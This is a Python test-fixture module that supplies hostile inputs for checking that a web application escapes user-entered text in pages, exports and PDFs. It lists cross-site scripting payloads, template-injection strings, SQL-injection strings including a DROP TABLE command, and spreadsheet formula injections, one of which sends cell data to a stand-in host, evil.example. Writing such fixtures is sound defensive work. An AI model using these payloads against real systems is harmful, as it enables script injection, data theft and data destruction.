"""Hostile input for tests (issue 9, item 4). Put these into every user-editable text field a
page, an export or a PDF shows, and check what comes out:

    user = UserFactory(last_name=XSS[0])
    assert_escaped(client.get("/").content.decode(), XSS[0])
"""

from __future__ import annotations

import html
import re

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "';alert(1);//",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
SQL = ["' OR '1'='1", "1; DROP TABLE accounts_user; --", "\\x00", "%", "_"]
UNICODE = ["Ёлкина-Щукина Ъ", "\u202etxt.exe", "\x00", "😀" * 50, "a" * 5000]
ALL_TEXT = XSS + FORMULAS + SQL + UNICODE


def assert_escaped(body: str, payload: str) -> None:
    """The payload appears only HTML-escaped (or not at all), never as live markup."""
    if "<" in payload or ">" in payload or '"' in payload:
        assert payload not in body, f"unescaped payload in the page: {payload!r}"
    if payload.startswith("{{"):
        # "49" on its own, not the digits of a SNILS, a number or a date that happen to be near
        before = body.split(html.escape(payload))[0][-50:]
        assert not re.search(r"(?<!\d)49(?!\d)", before), "template syntax was evaluated"
